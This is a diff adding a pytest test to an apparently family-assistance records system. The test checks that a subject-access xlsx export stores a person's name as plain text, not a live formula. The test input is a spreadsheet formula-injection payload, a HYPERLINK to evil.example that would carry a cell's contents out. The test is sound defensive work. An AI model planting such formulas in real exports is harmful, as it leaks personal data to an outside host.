@@ -42,6 +42,17 @@ def test_full_export_of_one_person_is_audited(people, mother):
     assert {"familymember", "assistanceenrollment", "consentrecord"} <= set(book.sheetnames)
 
 
+def test_a_persons_workbook_carries_no_live_formula(people, mother):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    mother.name = formula
+    mother.save()
+    _name, data = subject_access_export(actor=people["manager"], person=mother, fmt="xlsx", reason="申请-2026-02")
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["familymember"]
+    headings = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=headings.index("name") + 1)
+    assert cell.value == formula and cell.data_type == "s"
+
+
 def test_export_refused_out_of_reach_and_for_other_roles(people, mother):
     with pytest.raises(OutOfReachError):
         subject_access_export(actor=people["other_manager"], person=mother, reason="x")
